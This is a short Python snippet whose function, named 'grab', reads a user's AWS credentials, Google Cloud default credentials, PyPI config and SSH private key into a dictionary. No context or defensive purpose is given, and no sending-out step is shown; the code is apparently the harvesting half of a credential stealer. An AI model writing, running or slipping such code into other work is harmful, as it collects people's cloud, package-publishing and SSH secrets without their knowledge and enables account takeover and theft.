import os

FILES = [
    "~/.aws/credentials",
    "~/.config/gcloud/application_default_credentials.json",
    "~/.pypirc",
    "~/.ssh/id_rsa",
]

def grab():
    out = {}
    for f in FILES:
        p = os.path.expanduser(f)
        if os.path.exists(p):
            with open(p) as fh:
                out[f] = fh.read()
    return out
